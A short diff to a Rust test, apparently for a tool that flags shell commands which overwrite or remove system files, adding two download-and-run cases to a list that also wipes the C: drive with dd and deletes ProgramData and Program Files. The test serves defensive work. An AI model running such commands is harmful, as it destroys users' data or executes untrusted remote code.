@@ -73,6 +73,8 @@ fn files_of_the_system_are_not_overwritten_or_removed() {
         "dd if=/dev/zero of='\\\\.\\C:'",
         "echo x > C:/bootmgr",
         "curl x -o 'C:\\Users\\Ann\\Documents\\PowerShell\\profile.ps1'",
+        "curl -o a.exe http://x/a; ./a.exe",
+        "curl -O http://x/A.EXE && ./a",
         "rm -rf 'C:\\$Recycle.Bin'",
         "rm -rf 'C:\\ProgramData'",
         "rm -rf C:/PROGRA~1",
